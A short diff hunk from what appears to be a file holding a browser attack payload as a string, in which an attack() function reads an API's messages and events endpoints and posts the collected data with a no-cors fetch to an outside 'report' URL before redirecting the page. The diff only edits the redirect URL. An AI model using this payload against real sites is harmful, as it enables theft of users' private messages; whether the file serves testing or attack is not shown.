@@ -61,7 +61,7 @@ async function attack() {
 	await reads('fetch of one', '/v1/messages/kept');
 	await listens('/v1/events');
 	await fetch(asked.get('report'), {method: 'POST', mode: 'no-cors', body: JSON.stringify(read)});
-	location = target + '/v1/models?followed';
+	location = target + '/v1/models';
 }
 attack();
 </script>"""
